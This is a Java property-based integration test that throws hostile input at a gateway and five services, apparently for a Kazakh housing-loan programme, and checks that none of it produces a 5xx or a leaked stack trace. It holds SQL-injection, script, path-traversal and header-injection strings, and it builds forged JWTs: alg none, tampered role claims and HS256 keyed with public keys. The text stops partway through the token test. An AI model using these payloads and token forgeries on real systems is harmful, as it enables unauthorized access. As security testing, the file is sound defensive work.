package kz.khc.deploy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.security.KeyPairGenerator;
import java.security.PrivateKey;
import java.security.Signature;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Comparator;
import java.util.EnumSet;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ThreadLocalRandom;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

import kz.khc.deploy.bench.Api;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;

import org.jspecify.annotations.Nullable;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Hostile input against the whole suite (PostgreSQL, Kafka, Keycloak, the six services; started once for all of it on
 * free ports), through the gateway as the Internet reaches it: every operation of every service's OpenAPI description,
 * called by every kind of caller and with generated malformed, oversized and boundary values, forged tokens, files
 * disguised as PDF and a burst over the gateway's limit. Whatever comes in, the answer is never a 5xx and every 4xx is
 * problem details without a stack trace.
 *
 * <p>
 * A jqwik container (its properties and examples on the JUnit platform beside Jupiter's tests), so that the examples
 * and the properties share one start of the suite. The gateway's per-person limit is raised for this run (one person
 * sends thousands of requests here); anonymous requests come from generated client addresses (a trusted proxy's
 * {@code X-Forwarded-For}) but in {@link #aBurstOverTheLimitIsA429ForThatClientOnly()}, which uses the configured
 * anonymous limit.
 */
class HostileInputIT {

	private static final Duration EVENTUALLY = Duration.ofMinutes(2);
	private static final JsonMapper json = JsonMapper.builder().build();
	private static final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
	private static final String[] SERVICES = { "identity", "cabinet", "elorda", "scoring", "notification" };
	private static final ZoneId ALMATY = ZoneId.of("Asia/Almaty");

	private static @Nullable LocalSuite suite;
	private static @Nullable Path dataDir;
	private static OidcLogin staffLogin;
	private static List<Operation> operations = List.of();
	/** Ids of real things made in setup, by path variable: citizen A's application, contract, document… */
	private static final Map<String, String> ids = new HashMap<>();
	private static final Map<Caller, Token> tokens = new ConcurrentHashMap<>();

	// ---------------------------------------------------------------------------------------------------------------
	// Who may call what: one rule per operation. The test fails when the OpenAPI descriptions list an operation that
	// is neither here nor excluded below, or when a rule names an operation that no longer exists.
	// ---------------------------------------------------------------------------------------------------------------

	/** The callers of the matrix. Citizen A owns the resources in the paths; citizen B is someone else. */
	enum Caller {
		ANONYMOUS, CITIZEN_A, CITIZEN_B, AKIMAT, BANK, EDITOR, OPERATOR;

		boolean citizen() {
			return this == CITIZEN_A || this == CITIZEN_B;
		}
	}

	/**
	 * @param anyone   public: no token needed (then no caller is refused)
	 * @param allowed  the roles let through (besides anyone's)
	 * @param owned    the path names citizen A's resource: citizen B gets 404, never 403 (nor its existence)
	 * @param body     what the matrix sends as the body: empty, or a body valid enough to get past validation
	 * @param secret   public at the gateway, but the service wants a secret of its own: 401 for everyone without it
	 */
	record Rule(boolean anyone, Set<Caller> allowed, boolean owned, @Nullable String body, boolean secret) {

		Rule body(String body) {
			return new Rule(anyone, allowed, owned, body, secret);
		}

		/** What {@code caller} must get: empty when it is let through (any answer but 401, 403, 5xx). */
		@Nullable Integer refusal(Caller caller) {
			if (secret) {
				return 401;
			}
			if (anyone || allowed.contains(caller)) {
				return null;
			}
			if (caller == Caller.ANONYMOUS) {
				return 401;
			}
			return owned && caller == Caller.CITIZEN_B ? 404 : 403;
		}
	}

	private static Rule anyone() {
		return new Rule(true, Set.of(), false, null, false);
	}

	private static Rule signedIn() {
		return new Rule(false, EnumSet.complementOf(EnumSet.of(Caller.ANONYMOUS)), false, null, false);
	}

	private static Rule roles(Caller... callers) {
		return new Rule(false, Set.of(callers), false, null, false);
	}

	/** Citizen A's own resource (citizen B: 404), and these staff roles too. */
	private static Rule own(Caller... staff) {
		var allowed = EnumSet.of(Caller.CITIZEN_A);
		allowed.addAll(List.of(staff));
		return new Rule(false, allowed, true, null, false);
	}

	private static Rule secret() {
		return new Rule(true, Set.of(), false, null, true);
	}

	private static final Caller AKIMAT = Caller.AKIMAT;
	private static final Caller BANK = Caller.BANK;

	private static Rule citizens() {
		return roles(Caller.CITIZEN_A, Caller.CITIZEN_B);
	}

	/** Operation ({@code METHOD /path/{template}}) → who may call it. */
	static final Map<String, Rule> RULES = new LinkedHashMap<>();

	static {
		// identity-service: signing up, in and out without a token; the email is the citizen's
		String identity = "/api/identity/v1";
		RULES.put("POST " + identity + "/registrations", anyone());
		RULES.put("POST " + identity + "/registrations/{challengeId}/resend", anyone());
		RULES.put("POST " + identity + "/registrations/{challengeId}/code", anyone());
		RULES.put("POST " + identity + "/registrations/{challengeId}/password", anyone());
		RULES.put("POST " + identity + "/password-resets", anyone());
		RULES.put("POST " + identity + "/password-resets/{challengeId}/resend", anyone());
		RULES.put("POST " + identity + "/password-resets/{challengeId}/code", anyone());
		RULES.put("POST " + identity + "/password-resets/{challengeId}/password", anyone());
		RULES.put("POST " + identity + "/sessions", anyone());
		RULES.put("POST " + identity + "/sessions/refresh", anyone());
		RULES.put("POST " + identity + "/sessions/logout", anyone());
		RULES.put("POST " + identity + "/email-confirmations", anyone());
		RULES.put("PUT " + identity + "/me/email", citizens());
		RULES.put("GET " + identity + "/me", signedIn());
		// cabinet-service: the FAQ for everyone, edited by the content editor; the client's own profile and contracts
		String cabinet = "/api/cabinet/v1";
		RULES.put("GET " + cabinet + "/faq", anyone());
		RULES.put("GET " + cabinet + "/faq/{id}", anyone());
		RULES.put("POST " + cabinet + "/faq", roles(Caller.EDITOR));
		RULES.put("PUT " + cabinet + "/faq/{id}", roles(Caller.EDITOR));
		RULES.put("DELETE " + cabinet + "/faq/{id}", roles(Caller.EDITOR));
		RULES.put("POST " + cabinet + "/core-data/imports", roles(Caller.OPERATOR));
		RULES.put("GET " + cabinet + "/profile", citizens());
		RULES.put("GET " + cabinet + "/contracts", citizens());
		RULES.put("GET " + cabinet + "/contracts/{id}", own());
		RULES.put("GET " + cabinet + "/contracts/{id}/schedule", own());
		// elorda-application-service: editions and counters public, editions made by the akimat; the citizen's own
		// application and documents, which the akimat reads once submitted
		String elorda = "/api/elorda/v1";
		RULES.put("GET " + elorda + "/editions", anyone());
		RULES.put("GET " + elorda + "/editions/current", anyone());
		RULES.put("GET " + elorda + "/editions/{id}", anyone());
		RULES.put("GET " + elorda + "/editions/{id}/counters", anyone());
		RULES.put("GET " + elorda + "/loan-calculator", anyone());
		RULES.put("POST " + elorda + "/editions", roles(AKIMAT));
		RULES.put("PUT " + elorda + "/editions/{id}/window", roles(AKIMAT));
		RULES.put("POST " + elorda + "/editions/{id}/closure", roles(AKIMAT));
		RULES.put("POST " + elorda + "/applications", citizens());
		RULES.put("GET " + elorda + "/applications", roles(AKIMAT));
		RULES.put("GET " + elorda + "/my/applications", citizens());
		RULES.put("GET " + elorda + "/applications/{id}", own(AKIMAT));
		RULES.put("PUT " + elorda + "/applications/{id}/form", own().body(Api.HEALTHCARE_FORM.formatted("Ахметова Дана")));
		RULES.put("GET " + elorda + "/applications/{id}/signing-content", own());
		RULES.put("POST " + elorda + "/applications/{id}/submission", own().body("{\"signature\":\"MAA=\"}"));
		RULES.put("POST " + elorda + "/applications/{id}/verification", roles(AKIMAT));
		RULES.put("POST " + elorda + "/applications/{id}/rejection", roles(AKIMAT));
		RULES.put("GET " + elorda + "/applications/{id}/assessment", roles(AKIMAT));
		RULES.put("GET " + elorda + "/my/applications/{id}/timeline", own());
		RULES.put("POST " + elorda + "/applications/{applicationId}/documents", own());
		RULES.put("GET " + elorda + "/applications/{applicationId}/documents", own(AKIMAT));
		RULES.put("GET " + elorda + "/applications/{applicationId}/documents/{documentId}", own(AKIMAT));
		RULES.put("GET " + elorda + "/applications/{applicationId}/documents/{documentId}/content", own(AKIMAT));
		RULES.put("DELETE " + elorda + "/applications/{applicationId}/documents/{documentId}", own());
		// scoring-service: statistics, public lists and the pre-check public; the lists' entries, quotas, directions
		// and audit for the akimat; outcomes for the bank; the citizen's own positions and directions
		String scoring = "/api/scoring/v1";
		String list = scoring + "/programmes/{programme}/editions/{edition}/lists/{category}";
		RULES.put("GET " + scoring + "/statistics/submitted-applications", anyone());
		RULES.put("POST " + scoring + "/programmes/{programme}/assessments", anyone());
		RULES.put("GET " + scoring + "/programmes/{programme}/editions", roles(AKIMAT));
		RULES.put("GET " + list, anyone());
		RULES.put("GET " + list + "/entries", roles(AKIMAT));
		RULES.put("GET " + list + "/export.csv", roles(AKIMAT));
		RULES.put("GET " + list + "/export.xlsx", roles(AKIMAT));
		RULES.put("GET " + list + "/quota", roles(AKIMAT));
		RULES.put("PUT " + list + "/quota", roles(AKIMAT));
		RULES.put("GET " + list + "/directions", roles(AKIMAT, BANK));
		RULES.put("POST " + list + "/directions", roles(AKIMAT));
		RULES.put("GET " + scoring + "/directions", roles(AKIMAT, BANK));
		RULES.put("GET " + scoring + "/directions/{id}", roles(AKIMAT, BANK));
		RULES.put("POST " + scoring + "/directions/{id}/outcomes", roles(BANK));
		RULES.put("POST " + scoring + "/directions/{id}/annulment", roles(AKIMAT));
		RULES.put("GET " + scoring + "/audit", roles(AKIMAT));
		RULES.put("GET " + scoring + "/applications/{id}/assessment", roles(AKIMAT));
		RULES.put("GET " + scoring + "/my/positions", citizens());
		RULES.put("GET " + scoring + "/my/directions", citizens());
		RULES.put("GET " + scoring + "/my/applications", citizens());
		// notification-service: the citizen's inbox and preferences, the delivery log for the cabinet's operator and
		// the akimat, the SMS provider's receipts with the provider's secret
		String notifications = "/api/notifications/v1";
		RULES.put("GET " + notifications + "/my/messages", citizens());
		RULES.put("POST " + notifications + "/my/messages/{id}/read", own());
		RULES.put("GET " + notifications + "/my/messages/{id}/attachments/{fileName}", own());
		RULES.put("GET " + notifications + "/my/preferences", citizens());
		RULES.put("PUT " + notifications + "/my/preferences", citizens());
		RULES.put("GET " + notifications + "/deliveries", roles(Caller.OPERATOR, AKIMAT));
		RULES.put("GET " + notifications + "/deliveries/{id}", roles(Caller.OPERATOR, AKIMAT));
		RULES.put("POST " + notifications + "/provider-receipts/sms", secret());
	}

	/** Operations the matrix and the generated inputs leave out, with the reason. */
	static final Map<String, String> EXCLUDED = Map.of(
			"POST /internal/cabinet/v1/primary-authorization/checks",
			"service to service (identity-service's own token), not routed by the gateway: 404 there (checked below); "
					+ "SuiteEndToEndIT calls it directly",
			"POST /internal/notifications/v1/one-time-codes",
			"service to service (identity-service's own token), not routed by the gateway: 404 there (checked below)");

	// ---------------------------------------------------------------------------------------------------------------
	// The suite, the callers and the real ids
	// ---------------------------------------------------------------------------------------------------------------

	@BeforeContainer
	static void startSuite() throws Exception {
		RunLocal.quietClientLogging();
		dataDir = Files.createTempDirectory("hostile-input");
		// one person sends thousands of requests here: their limit raised; the anonymous one stays as configured
		suite = LocalSuite.start(SuiteConfig.freePorts(dataDir).withServiceEnvironment(Map.of("gateway", Map.of(
				"GATEWAY_RATELIMIT_SIGNEDIN_CAPACITY", "100000", "GATEWAY_RATELIMIT_SIGNEDIN_PERSECOND", "100000"))));
		staffLogin = new OidcLogin(suite.keycloakUrl(), Keycloak.REALM, "elorda-web", suite.gatewayUrl() + "/");
		operations = enumerate();
		prepare();
		anExpiringToken();
	}

	@AfterContainer
	static void stopSuite() throws IOException {
		if (suite != null) {
			suite.close();
			Path kept = Path.of("target", "hostile-logs");
			Files.createDirectories(kept);
			try (Stream<Path> logs = Files.list(suite.config().logDir())) {
				for (Path log : logs.toList()) {
					Files.copy(log, kept.resolve(log.getFileName()), StandardCopyOption.REPLACE_EXISTING);
				}
			}
		}
		if (dataDir != null) {
			try (Stream<Path> files = Files.walk(dataDir)) {
				files.sorted(Comparator.reverseOrder()).forEach(file -> file.toFile().delete());
			}
		}
	}

	/** Every operation the gateway's API documents list (springdoc: {@code /v3/api-docs/<service>}). */
	private static List<Operation> enumerate() {
		List<Operation> found = new ArrayList<>();
		for (String service : SERVICES) {
			Answer docs = send("GET", "/v3/api-docs/" + service, Caller.ANONYMOUS, null, null, Map.of());
			assertThat(docs.status()).as("OpenAPI of " + service + ": " + docs.body()).isEqualTo(200);
			JsonNode api = json.readTree(docs.body());
			for (var path : api.path("paths").properties()) {
				for (var method : path.getValue().properties()) {
					JsonNode operation = method.getValue();
					List<Parameter> parameters = new ArrayList<>();
					for (JsonNode parameter : operation.path("parameters")) {
						parameters.add(new Parameter(parameter.path("name").asString(), parameter.path("in").asString()));
					}
					JsonNode content = operation.path("requestBody").path("content");
					List<String> fields = new ArrayList<>();
					JsonNode schema = content.path("application/json").path("schema");
					String ref = schema.path("$ref").asString("");
					if (!ref.isEmpty()) {
						JsonNode component = api.path("components").path("schemas").path(ref.substring(ref.lastIndexOf('/') + 1));
						component.path("properties").propertyNames().forEach(fields::add);
					}
					found.add(new Operation(service, method.getKey().toUpperCase(), path.getKey(), parameters,
							content.isObject() ? content.propertyNames().stream().toList() : List.of(), fields));
				}
			}
		}
		return found;
	}

	/** Citizen A's draft with a document, A's contract, a FAQ entry, the open edition: the ids the matrix uses. */
	private static void prepare() {
		String editionBody = send("GET", "/api/elorda/v1/editions/current", Caller.ANONYMOUS, null, null, Map.of()).body();
		ids.put("edition", json.readTree(editionBody).path("id").asString());
		Answer draft = send("POST", "/api/elorda/v1/applications", Caller.CITIZEN_A,
				Api.HEALTHCARE_FORM.formatted("Ахметова Дана"), "application/json", Map.of());
		assertThat(draft.status()).as(draft.body()).isEqualTo(201);
		ids.put("application", json.readTree(draft.body()).path("id").asString());
		Answer document = upload(Caller.CITIZEN_A, Api.SMALL_PDF, "diploma.pdf", "application/pdf");
		assertThat(document.status()).as(document.body()).isEqualTo(201);
		ids.put("document", json.readTree(document.body()).path("id").asString());
		Answer contracts = send("GET", "/api/cabinet/v1/contracts", Caller.CITIZEN_A, null, null, Map.of());
		assertThat(contracts.status()).as(contracts.body()).isEqualTo(200);
		Matcher contract = Pattern.compile("\"id\":\"([0-9a-f-]{36})\"").matcher(contracts.body());
		assertThat(contract.find()).as(contracts.body()).isTrue();
		ids.put("contract", contract.group(1));
		Answer faq = send("GET", "/api/cabinet/v1/faq?size=1", Caller.ANONYMOUS, null, null, Map.of());
		Matcher entry = Pattern.compile("\"id\":\"?([0-9a-f-]+)\"?").matcher(faq.body());
		ids.put("faq", entry.find() ? entry.group(1) : UUID.randomUUID().toString());
	}

	/** The path with real ids where the rule needs them, any id elsewhere (nothing is changed by what is not there). */
	private static String path(Operation operation) {
		String path = operation.template();
		String application = ids.get("application");
		Map<String, String> values = new LinkedHashMap<>();
		values.put("programme", "elorda-zhastary");
		values.put("edition", "2026");
		values.put("category", "HEALTHCARE");
		values.put("challengeId", UUID.randomUUID().toString());
		values.put("fileName", "direction.pdf");
		values.put("applicationId", application);
		values.put("documentId", operation.method().equals("DELETE") ? UUID.randomUUID().toString() : ids.get("document"));
		String id;
		if (path.startsWith("/api/elorda/v1/editions/")) {
			// reads of the open edition; its window and closure only for one that does not exist
			id = operation.method().equals("GET") ? ids.get("edition") : "hostile-" + UUID.randomUUID();
		}
		else if (path.startsWith("/api/elorda/v1/") || path.startsWith("/api/scoring/v1/applications/")) {
			id = application;
		}
		else if (path.startsWith("/api/cabinet/v1/contracts/")) {
			id = ids.get("contract");
		}
		else if (path.startsWith("/api/cabinet/v1/faq/")) {
			id = operation.method().equals("GET") ? ids.get("faq") : UUID.randomUUID().toString();
		}
		else {
			id = UUID.randomUUID().toString();
		}
		values.put("id", id);
		for (var value : values.entrySet()) {
			path = path.replace("{" + value.getKey() + "}", value.getValue());
		}
		assertThat(path).as("a path variable without a value").doesNotContain("{");
		return path;
	}

	// ---------------------------------------------------------------------------------------------------------------
	// 1. Every operation is covered
	// ---------------------------------------------------------------------------------------------------------------

	@Example
	void everyDocumentedOperationHasARuleOrAReasonToBeLeftOut() {
		Set<String> documented = operations.stream().map(Operation::key).collect(Collectors.toCollection(TreeSet::new));
		assertThat(documented).as("operations in the OpenAPI documents").hasSizeGreaterThan(70);
		Set<String> uncovered = new TreeSet<>(documented);
		uncovered.removeAll(RULES.keySet());
		uncovered.removeAll(EXCLUDED.keySet());
		assertThat(uncovered).as("operations without a rule in HostileInputIT.RULES or a reason in EXCLUDED").isEmpty();
		Set<String> stale = new TreeSet<>(RULES.keySet());
		stale.addAll(EXCLUDED.keySet());
		stale.removeAll(documented);
		assertThat(stale).as("rules for operations no OpenAPI document lists").isEmpty();
		for (String excluded : EXCLUDED.keySet()) {
			String path = excluded.substring(excluded.indexOf(' ') + 1);
			assertThat(send(excluded.substring(0, excluded.indexOf(' ')), path, Caller.AKIMAT, "{}", "application/json",
					Map.of()).status()).as(excluded + " through the gateway").isEqualTo(404);
		}
	}

	// ---------------------------------------------------------------------------------------------------------------
	// 2. Authorization matrix
	// ---------------------------------------------------------------------------------------------------------------

	@Example
	void everyOperationAnswersEachCallerAsItsRuleSays() {
		List<String> wrong = new ArrayList<>();
		Set<String> shapeFirst = new TreeSet<>();
		int calls = 0;
		for (Operation operation : operations) {
			Rule rule = RULES.get(operation.key());
			if (rule == null) {
				continue;
			}
			String path = path(operation) + (operation.key().endsWith("/loan-calculator") ? "?amount=5000000" : "");
			for (Caller caller : Caller.values()) {
				Answer answer = call(operation, path, caller, rule);
				calls++;
				Integer refusal = rule.refusal(caller);
				String seen = "%s as %s: %d %s".formatted(operation.key(), caller, answer.status(), abbreviated(answer.body()));
				if (answer.status() >= 500 || !problemIfError(answer)) {
					wrong.add(seen + " (never a 5xx; every 4xx a problem)");
				}
				else if (refusal != null && rule.secret() && SHAPE_BEFORE_ROLE.contains(answer.status())) {
					// the provider's secret is checked in the method, after the request's shape: a refusal all the
					// same, listed (a wrong role is refused before the body is read: the services' URL rules)
					shapeFirst.add(operation.key() + " → " + answer.status());
				}
				else if (refusal != null && answer.status() != refusal) {
					wrong.add(seen + " (expected " + refusal + ")");
				}
				else if (refusal == null && (answer.status() == 401 || answer.status() == 403)) {
					wrong.add(seen + " (expected to be let through)");
				}
				else if (refusal == null && rule.owned() && caller == Caller.CITIZEN_A && answer.status() == 404
						&& !path.contains(UUID_OF_NOTHING_MARK) && realIds(operation)) {
					wrong.add(seen + " (A's own resource)");
				}
			}
		}
		System.out.printf("Authorization matrix: %d operations x %d callers = %d calls%n", RULES.size(),
				Caller.values().length, calls);
		System.out.printf("Refused for the request's shape before the secret (400/415, not 401), %d:%n  %s%n",
				shapeFirst.size(), String.join("\n  ", shapeFirst));
		assertThat(wrong).isEmpty();
	}

	private static final String UUID_OF_NOTHING_MARK = "hostile-";
	/** What a caller without the provider's secret may get instead of 401: the request's shape is checked first. */
	private static final Set<Integer> SHAPE_BEFORE_ROLE = Set.of(400, 415);

	/**
	 * Whether A's own resource is really there: the path holds only ids made in setup (not a random one), and it is
	 * not the timeline, which a draft does not have yet.
	 */
	private static boolean realIds(Operation operation) {
		return !operation.method().equals("DELETE") && !operation.template().contains("/my/messages/")
				&& !operation.template().endsWith("/timeline");
	}

	private static Answer call(Operation operation, String path, Caller caller, Rule rule) {
		if (operation.bodyTypes().contains("multipart/form-data")) {
			return upload(caller, Api.SMALL_PDF, "scan.pdf", "application/pdf");
		}
		String body = operation.bodyTypes().isEmpty() ? null : rule.body() == null ? "{}" : rule.body();
		return send(operation.method(), path, caller, body, body == null ? null : "application/json", Map.of());
	}

	// ---------------------------------------------------------------------------------------------------------------
	// 3. Generated hostile values
	// ---------------------------------------------------------------------------------------------------------------

	/**
	 * Each generated value in every field of every operation's JSON body, as the rightful caller: an answer, never a
	 * 5xx, every 4xx a problem.
	 */
	@Property(tries = 25)
	void hostileValuesInEveryBodyField(@ForAll("hostileJson") String value) {
		List<String> wrong = new ArrayList<>();
		for (Operation operation : withJsonBody()) {
			// the value as written, so numbers beyond double and other odd literals reach the service unchanged
			List<String> fields = operation.fields().isEmpty() ? List.of("value") : operation.fields();
			String body = fields.stream().map(field -> json.writeValueAsString(field) + ":" + value)
				.collect(Collectors.joining(",", "{", "}"));
			check(wrong, operation, send(operation.method(), path(operation), rightful(operation), body,
					"application/json", Map.of()));
		}
		assertThat(wrong).isEmpty();
	}

	/** Bodies that are no JSON object at all, or no JSON: malformed, other types, deep, huge, with a NUL. */
	@Property(tries = 20)
	void malformedBodies(@ForAll("malformedBody") String body, @ForAll("contentType") String contentType) {
		List<String> wrong = new ArrayList<>();
		for (Operation operation : withJsonBody()) {
			check(wrong, operation, send(operation.method(), path(operation), rightful(operation), body, contentType,
					Map.of()));
		}
		assertThat(wrong).isEmpty();
	}

	/** Each generated value in every path variable and query parameter, one at a time and all at once. */
	@Property(tries = 25)
	void hostilePathAndQueryValues(@ForAll("hostileText") String value) {
		List<String> wrong = new ArrayList<>();
		String encoded = URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
		for (Operation operation : operations) {
			if (!RULES.containsKey(operation.key()) || operation.parameters().isEmpty()) {
				continue;
			}
			String path = path(operation);
			List<String> query = new ArrayList<>();
			for (Parameter parameter : operation.parameters()) {
				if (parameter.in().equals("path")) {
					// the variable's segment in the real path replaced: the template's segments line up with it
					String[] template = operation.template().split("/");
					String[] real = path.split("/");
					for (int i = 0; i < template.length; i++) {
						if (template[i].equals("{" + parameter.name() + "}")) {
							real[i] = encoded;
						}
					}
					String hostile = String.join("/", real);
					check(wrong, operation, send(operation.method(), hostile, rightful(operation), bodyFor(operation),
							"application/json", Map.of()));
				}
				else if (parameter.in().equals("query")) {
					query.add(parameter.name() + "=" + encoded);
				}
			}
			if (!query.isEmpty()) {
				check(wrong, operation, send(operation.method(), path + "?" + String.join("&", query),
						rightful(operation), bodyFor(operation), "application/json", Map.of()));
			}
		}
		assertThat(wrong).isEmpty();
	}

	/** An address too long for anyone: 414 problem at the gateway, never a bare answer. */
	@Property(tries = 5)
	void overlongAddresses(@ForAll("overlong") int length) {
		Answer answer = send("GET", "/api/cabinet/v1/faq?q=" + "a".repeat(length), Caller.ANONYMOUS, null, null,
				Map.of());
		assertThat(answer.status()).as(answer.body()).isEqualTo(414);
		assertThat(problemIfError(answer)).as(answer.contentType() + " " + answer.body()).isTrue();
	}

	@Provide
	Arbitrary<Integer> overlong() {
		return Arbitraries.integers().between(6200, 60_000);
	}

	@Provide
	Arbitrary<String> hostileText() {
		return Arbitraries.oneOf(
				Arbitraries.of("-1", "0", "-0", "2147483648", "9223372036854775808", "1e308", "NaN", "Infinity", "0x1F",
						"", " ", "null", "true", "[]", "{}", "%", "%zz", "..", "../..", ";", "\\", "'", "\"", "<script>",
						"' OR '1'='1", "2026-02-30", "30.02.2026", "2026-13-01", "99999-01-01", "000000000000",
						"123456789012", "651106450324", "+7 (701) 234-56-78", "7701", "+99999999999999999999",
						"\u202Eabc", "\u200B\u200D\uFEFF", "\u0000", "\uD83D\uDE00\uD83C\uDDF0\uD83C\uDDFF", "ӘәҒғҚқ",
						"a\nb", "a\r\nX-Injected: 1", "HEALTHCARE ", "healthcare", "ALL", "*"),
				Arbitraries.strings().all().ofMinLength(1).ofMaxLength(40),
				Arbitraries.strings().withChars('a', '9', '-', '%', '/').ofMinLength(200).ofMaxLength(900),
				Arbitraries.longs().map(String::valueOf),
				Arbitraries.doubles().map(String::valueOf));
	}

	@Provide
	Arbitrary<String> hostileJson() {
		Arbitrary<String> strings = hostileText().map(text -> json.writeValueAsString(text));
		return Arbitraries.oneOf(strings,
				Arbitraries.of("null", "true", "false", "0", "-1", "-0", "1e400", "-1e400", "3.4028235E39",
						"9223372036854775808", "-9223372036854775809", "0.000000000000000000001", "\"NaN\"",
						"\"Infinity\"", "[]", "{}", "[null]", "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]",
						"{\"\":{\"\":{\"\":{}}}}", "\"2026-02-30\"", "\"+7701\"", "\"1234567890123\"",
						"\"\\u0000\"", "\"\\ud800\"", "[\"HEALTHCARE\",\"HEALTHCARE\"]"),
				// oversized: 1 MB of text, and a long array
				Arbitraries.of(1 << 20, 100_000).map(size -> json.writeValueAsString("Ж".repeat(size / 2))),
				Arbitraries.of("[" + "1,".repeat(50_000) + "1]"));
	}

	@Provide
	Arbitrary<String> malformedBody() {
		return Arbitraries.oneOf(
				Arbitraries.of("", "{", "}", "{\"a\":", "{\"a\":1,}", "{'a':1}", "[", "\"", "nul", "{\"a\":01}",
						"{\"a\":1}{\"b\":2}", "\u0000", "\uFEFF{}", "{\"a\":\"\\x\"}", "{\"a\":NaN}", "<xml/>", "a=b&c=d",
						"[".repeat(100_000), "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000)),
				Arbitraries.strings().all().ofMaxLength(200),
				Combinators.combine(Arbitraries.strings().ofMaxLength(20), Arbitraries.integers().between(1, 3))
					.as((text, n) -> "{\"x\":\"" + text + "\"".repeat(n)));
	}

	@Provide
	Arbitrary<String> contentType() {
		return Arbitraries.of("application/json", "application/json", "application/json; charset=ISO-8859-1",
				"text/plain", "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded",
				"application/json; charset=nonsense", "*/*", "application/problem+json");
	}

	private static List<Operation> withJsonBody() {
		return operations.stream()
			.filter(operation -> RULES.containsKey(operation.key()) && operation.bodyTypes().contains("application/json"))
			.toList();
	}

	private static @Nullable String bodyFor(Operation operation) {
		if (operation.bodyTypes().isEmpty()) {
			return null;
		}
		Rule rule = RULES.get(operation.key());
		return rule != null && rule.body() != null ? rule.body() : "{}";
	}

	/** A caller the operation's rule lets through (citizen A for his own, the role's officer, anyone for public). */
	private static Caller rightful(Operation operation) {
		Rule rule = RULES.get(operation.key());
		if (rule == null || rule.anyone()) {
			return Caller.ANONYMOUS;
		}
		if (rule.allowed().contains(Caller.CITIZEN_A)) {
			return Caller.CITIZEN_A;
		}
		return rule.allowed().stream().min(Comparator.naturalOrder()).orElseThrow();
	}

	private static void check(List<String> wrong, Operation operation, Answer answer) {
		if (answer.status() >= 500 || answer.status() < 100 || !problemIfError(answer)) {
			wrong.add("%s %s: %d %s %s".formatted(operation.method(), abbreviated(answer.uri()), answer.status(),
					answer.contentType(), abbreviated(answer.body())));
		}
		if (answer.status() == 429) {
			wrong.add(operation.key() + ": limited by the gateway, so not tested: " + answer.body());
		}
	}

	/** A 4xx is problem details (its title and status) without a stack trace; other answers pass. */
	private static boolean problemIfError(Answer answer) {
		if (answer.status() < 400) {
			return true;
		}
		if (answer.contentType() == null || !answer.contentType().startsWith("application/problem+json")) {
			return false;
		}
		String body = answer.body();
		if (STACK_TRACE.matcher(body).find()) {
			return false;
		}
		JsonNode problem = json.readTree(body);
		return problem.path("status").asInt() == answer.status() && !problem.path("title").asString("").isBlank();
	}

	private static final Pattern STACK_TRACE = Pattern.compile(
			"\\bat (java|org\\.springframework|kz\\.khc|tools\\.jackson)\\.|Exception:|\\.java:\\d+\\)");

	// ---------------------------------------------------------------------------------------------------------------
	// 4. Forged tokens
	// ---------------------------------------------------------------------------------------------------------------

	@Example
	void forgedExpiredAndForeignTokensAre401AtTheGatewayAndAtAServiceDirectly() throws Exception {
		String real = token(Caller.CITIZEN_A);
		String[] parts = real.split("\\.");
		ObjectNode claims = (ObjectNode) json.readTree(Base64.getUrlDecoder().decode(parts[1]));
		String issuer = claims.path("iss").asString();
		Instant now = Instant.now();

		var generator = KeyPairGenerator.getInstance("RSA");
		generator.initialize(2048);
		PrivateKey ours = generator.generateKeyPair().getPrivate();
		String jwks = HttpClient.newHttpClient()
			.send(HttpRequest.newBuilder(URI.create(issuer + "/protocol/openid-connect/certs")).build(),
					HttpResponse.BodyHandlers.ofString())
			.body();

		Map<String, String> forged = new LinkedHashMap<>();
		forged.put("alg none", jwt("{\"alg\":\"none\",\"typ\":\"JWT\"}", claims.toString(), null));
		forged.put("alg none, signature kept", b64("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + parts[1] + "." + parts[2]);
		forged.put("signature changed", parts[0] + "." + parts[1] + "." + flipped(parts[2]));
		forged.put("claims changed (roles)", parts[0] + "." + b64(claims.deepCopy()
			.put("preferred_username", "akimat.officer").set("roles", json.readTree("[\"akimat-officer\"]")).toString())
				+ "." + parts[2]);
		String kid = json.readTree(Base64.getUrlDecoder().decode(parts[0])).path("kid").asString();
		forged.put("our key under the realm key's id, the realm's issuer",
				jwt("{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"" + kid + "\"}", claims.toString(), ours));
		forged.put("our key, another issuer", jwt("{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"hostile\"}",
				claims.deepCopy().put("iss", "https://idp.example/realms/elorda").toString(), ours));
		forged.put("HS256 keyed with the realm's public keys", hs256(claims.toString(), jwks));
		forged.put("expired, our key", jwt("{\"alg\":\"RS256\",\"typ\":\"JWT\"}", claims.deepCopy()
